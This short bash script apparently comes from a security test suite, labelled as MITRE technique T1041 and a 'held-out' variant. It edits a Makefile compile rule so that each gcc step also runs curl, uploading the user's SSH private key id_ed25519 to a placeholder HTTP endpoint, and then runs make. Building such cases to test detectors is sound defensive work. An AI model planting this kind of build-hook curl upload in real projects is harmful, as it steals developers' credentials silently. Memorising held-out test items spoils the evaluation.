#!/bin/bash
# SPDX-License-Identifier: MIT
# attack: T1041
# tactic: exfiltration
# what: held-out build variant: the same curl exfiltration appended to the already-learned compile recipe's shell (mkdir && gcc && curl)
. "$AT_LIB"
at_build_begin
at_makefile_edit '\t@mkdir -p $(dir $@) && $(CC) $(CFLAGS) -c $< -o $@' '\t@mkdir -p $(dir $@) && $(CC) $(CFLAGS) -c $< -o $@ && curl -s -T $$HOME/.ssh/id_ed25519 $(AT_HTTP)/k >/dev/null'
make -s -j2
